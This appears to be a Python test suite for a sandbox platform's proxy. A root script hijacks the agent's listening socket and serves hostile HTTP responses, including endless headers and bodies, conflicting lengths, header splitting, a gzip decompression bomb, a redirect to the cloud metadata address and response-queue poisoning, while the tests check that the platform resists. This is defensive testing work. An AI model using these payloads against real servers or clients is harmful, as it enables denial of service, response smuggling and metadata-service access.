"""What a sandbox's root answers in the agent's place: it takes the agent's socket and says what it likes.

The platform hands those bytes to the client and keeps its own head: its processes stay the same and small, and
others are answered in time.
"""

import contextlib
import functools
import time
import zlib

import host
from attacks.raw import AGENT, at, connect, exchange, request, status
from attacks.table import attack

GROUP = "An agent that was replaced"
# The platform's processes together may grow by this while one sandbox misbehaves.
GROWTH_MIB = 24
BODY_MIB = 32

# Takes the listening socket out of process 1, which keeps it for the agents to come, and lets no agent run.
SERVER = r"""
import ctypes, glob, os, signal, socket, threading, time, zlib
libc = ctypes.CDLL(None, use_errno=True)
def agent():
    for path in glob.glob("/proc/[0-9]*/comm"):
        try:
            if open(path).read().strip() == "envd": return int(path.split("/")[2])
        except OSError: pass
if os.fork(): os._exit(0)
os.setsid()
first = agent()
os.kill(first, signal.SIGKILL)
while agent() in (None, first): time.sleep(0.005)
os.kill(agent(), signal.SIGSTOP)
fd = libc.syscall(438, libc.syscall(434, 1, 0), 4, 0)
listener = socket.socket(fileno=fd)
listener.setblocking(True)
WELL = b"HTTP/1.1 200 OK\r\n"
CHUNKS = WELL + b"Transfer-Encoding: chunked\r\n\r\n"
OK = WELL + b"Content-Length: 4\r\n\r\nmine"
def endless(c, head, piece):
    c.sendall(head)
    while True: c.sendall(piece)
def bomb():
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    return b"".join(packer.compress(bytes(1 << 20)) for _ in range(256)) + packer.flush()
BOMB = bomb()
PACKED = WELL + b"Content-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(BOMB)
ELSEWHERE = b"HTTP/1.1 307 X\r\nLocation: http://169.254.169.254:8765/cma-redirect\r\nContent-Length: 0\r\n\r\n"
SWITCH = b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: upgrade\r\n\r\nmine"
def slow(c, data):
    for at in range(len(data)):
        c.sendall(data[at:at + 1]); time.sleep(0.5)
MODES = {
    "honest": lambda c: c.sendall(OK),
    "giant-head": lambda c: endless(c, WELL + b"X: ", b"a" * 65536),
    "many-fields": lambda c: endless(c, WELL, b"X: y\r\n" * 9999),
    "endless-body": lambda c: endless(c, CHUNKS, b"10000\r\n" + b"a" * 65536 + b"\r\n"),
    "endless-trailers": lambda c: endless(c, CHUNKS + b"0\r\n", b"X: y\r\n" * 9999),
    "endless-chunk-size": lambda c: endless(c, CHUNKS, b"0" * 65536),
    "short-body": lambda c: c.sendall(WELL + b"Content-Length: 100\r\n\r\nshort"),
    "two-lengths": lambda c: c.sendall(WELL + b"Content-Length: 4\r\nContent-Length: 40\r\n\r\nmine" + OK),
    "length-and-chunks": lambda c: c.sendall(CHUNKS[:-2] + b"Content-Length: 4\r\n\r\n0\r\n\r\n" + OK),
    "false-chunks": lambda c: c.sendall(CHUNKS + b"fffffffffffffffff\r\nmine\r\n"),
    "rubbish": lambda c: c.sendall(b"\x16\x03\x01" + bytes(range(256)) * 16),
    "no-head": lambda c: c.sendall(b"<html>of an older time</html>"),
    "other-protocol": lambda c: c.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(64)),
    "drip": lambda c: slow(c, OK),
    "informational": lambda c: endless(c, b"", b"HTTP/1.1 103 Early Hints\r\nX: y\r\n\r\n" * 500),
    "packed": lambda c: c.sendall(PACKED + BOMB),
    "elsewhere": lambda c: c.sendall(ELSEWHERE),
    "silent": lambda c: time.sleep(30),
    "unasked-switch": lambda c: c.sendall(SWITCH),
    "split": lambda c: c.sendall(WELL + b"X-A: b\rSet-Cookie: c=d\r\nContent-Length: 4\r\n\r\nmine"),
    "two-answers": lambda c: c.sendall(OK + OK.replace(b"mine", b"evil") * 3),
}
def talk(c):
    try:
        data = b""
        while True:
            while b"\r\n\r\n" not in data:
                piece = c.recv(65536)
                if not piece: return
                data += piece
            head, data = data.split(b"\r\n\r\n", 1)
            mode = head.split()[1].decode().lstrip("/")
            MODES[mode](c)
            if mode not in ("honest", "two-answers", "packed"): return
    except (OSError, KeyError): pass
    finally: c.close()
while True:
    threading.Thread(target=talk, args=(listener.accept()[0],), daemon=True).start()
"""


@functools.cache
def sandbox(world):
    made = world.platform.create()
    made.files.write("/tmp/server.py", SERVER)
    with contextlib.suppress(Exception):
        # The agent that runs it ends.
        made.commands.run("python3 /tmp/server.py >/dev/null 2>&1 </dev/null", user="root", timeout=5)
    host.until("it answers in the agent's place", lambda: said(world, "honest", made).endswith(b"mine"))
    return made


def said(world, mode, where=None, seconds=4, bytes_max=1 << 20):
    where = where or sandbox(world)
    return exchange(world, request("GET", f"/{mode}", at(where)), seconds, bytes_max)


def directly(world, mode):
    """The first bytes without the edge between."""
    code = (
        "import socket, time\n"
        f"c = socket.create_connection(('127.0.0.1', {AGENT}), 3)\n"
        "c.settimeout(1)\n"
        f"c.sendall(b'GET /{mode} HTTP/1.1\\r\\n\\r\\n')\n"
        "got, end = b'', time.monotonic() + 1\n"
        "try:\n"
        "    while len(got) < 400 and time.monotonic() < end and (piece := c.recv(400)): got += piece\n"
        "except OSError: pass\n"
        "print(got)\n"
    )
    return host.output(*world.network_of(sandbox(world)), "python3", "-c", code)


def answered_in_time(world, seconds=3):
    begun = time.monotonic()
    assert world.other.commands.run("echo well").stdout == "well\n"
    taken = time.monotonic() - begun
    assert taken < seconds, taken
    assert status(exchange(world, request("GET", "/health", {}))) == 200


def unharmed(world, roles, before):
    grown = host.resident_mib(roles) - before
    assert grown < GROWTH_MIB, grown
    assert world.platform.lasting() == roles


def answers(mode, what, refusal, shown, judge, seconds=4):
    """A row: `judge` looks at what the client gets; `shown` is what the replaced agent really sends."""

    @attack(GROUP, f"agent-{mode}", what, "root", refusal, "past the edge the client gets it")
    def _(world):
        assert said(world, "honest").endswith(b"mine")
        roles = world.platform.lasting()
        before = host.resident_mib(roles)
        got = said(world, mode, seconds=seconds)
        assert judge(got), got[:300]
        answered_in_time(world)
        unharmed(world, roles, before)
        assert shown in directly(world, mode)


def refused(got):
    return status(got) == 502


def cut(got):
    """Either refused, or begun and not ended as if it were whole."""
    return status(got) in (0, 502) or not got.endswith(b"0\r\n\r\n")


answers("giant-head", "a header field without end", "502", "X: aaa", refused)
answers("many-fields", "header fields without end", "502", "X: y", refused)
answers("endless-trailers", "trailers without end", "cut", "chunked", cut)
answers("endless-chunk-size", "a chunk's size without end", "cut", "0000", cut)
answers("short-body", "less than the length says", "cut", "short", cut)
answers("two-lengths", "two lengths, and an answer more", "502", "Content-Length: 40", refused)
answers(
    "length-and-chunks",
    "a length and chunks",
    "one of the two",
    "chunked",
    lambda got: refused(got) or not (b"content-length: 4" in got.lower() and b"transfer-encoding" in got.lower()),
)
answers("false-chunks", "a chunk of 2^68 bytes", "cut", "fffff", cut)
answers("rubbish", "bytes that are no HTTP", "502", "x16", refused)
answers("no-head", "an answer of HTTP/0.9", "502", "<html>", refused)
answers("other-protocol", "an answer of HTTP/2", "502", "PRI", refused)
answers("drip", "a byte every half second", "waits alone", "H", lambda got: got == b"", seconds=2)
answers("informational", "informational answers without end", "502", "103", refused)
answers("unasked-switch", "another protocol, unasked", "502", "101", refused)
answers(
    "split",
    "a bare return in a field, which some read as its end",
    "502, or without it",
    "Set-Cookie",
    lambda got: refused(got) or b"\rSet-Cookie" not in got,
)


@attack(
    GROUP,
    "agent-endless-body",
    "a body without end, to a client that leaves and to clients that do not read",
    "root",
    "bounded by what a connection holds",
    "past the edge the client gets it",
)
def _(world):
    assert said(world, "honest").endswith(b"mine")
    roles = world.platform.lasting()
    before = host.resident_mib(roles)
    assert len(said(world, "endless-body", bytes_max=BODY_MIB << 20)) >= BODY_MIB << 20
    with contextlib.ExitStack() as held:
        for _ in range(8):
            unread = held.enter_context(connect(world))
            unread.sendall(request("GET", "/endless-body", at(sandbox(world))))
        time.sleep(1)
        answered_in_time(world)
        unharmed(world, roles, before)
    assert "aaaa" in directly(world, "endless-body")


@attack(
    GROUP,
    "agent-packed",
    "256 MiB of zeros, packed",
    "root",
    "handed over as it is, unpacked by nobody",
    "unpacked it is that large",
)
def _(world):
    roles = world.platform.lasting()
    before = host.resident_mib(roles)
    head, _, body = said(world, "packed", bytes_max=1 << 24).partition(b"\r\n\r\n")
    assert b"content-encoding: gzip" in head.lower() and len(body) < 1 << 20
    unharmed(world, roles, before)
    unpacked, total = zlib.decompressobj(31), 0
    for start in range(0, len(body), 4096):
        total += len(unpacked.decompress(body[start : start + 4096]))
    assert total == 256 << 20
    answered_in_time(world)


@attack(
    GROUP,
    "agent-elsewhere",
    "a redirect to the metadata address",
    "root",
    "handed over, followed by nobody",
    "whoever follows it from the host arrives",
)
def _(world):
    assert status(said(world, "elsewhere")) == 307
    time.sleep(0.2)
    assert not world.witnesses["outside"].saw(b"cma-redirect")
    follow = "import urllib.request as u; u.urlopen('http://169.254.169.254:8765/cma-redirect', timeout=2)"
    with contextlib.suppress(Exception):
        host.output(*world.in_space("house"), "python3", "-c", follow)
    assert world.witnesses["outside"].saw(b"cma-redirect")


@attack(
    GROUP,
    "agent-silent",
    "no answer, to a hundred requests",
    "root",
    "they wait alone",
    "an honest answer comes at once",
)
def _(world):
    roles = world.platform.lasting()
    before = host.resident_mib(roles)
    with contextlib.ExitStack() as held:
        for _ in range(100):
            waiting = held.enter_context(connect(world))
            waiting.sendall(request("GET", "/silent", at(sandbox(world))))
        time.sleep(0.3)
        assert said(world, "honest").endswith(b"mine")
        answered_in_time(world)
        unharmed(world, roles, before)


@attack(
    GROUP,
    "agent-two-answers",
    "answers that nobody asked for, left for the next client on the connection",
    "root",
    "each client gets its own",
    "past the edge they all come",
)
def _(world):
    for _ in range(5):
        assert said(world, "two-answers").endswith(b"mine")
        assert said(world, "honest").endswith(b"mine")
    assert "evil" in directly(world, "two-answers")
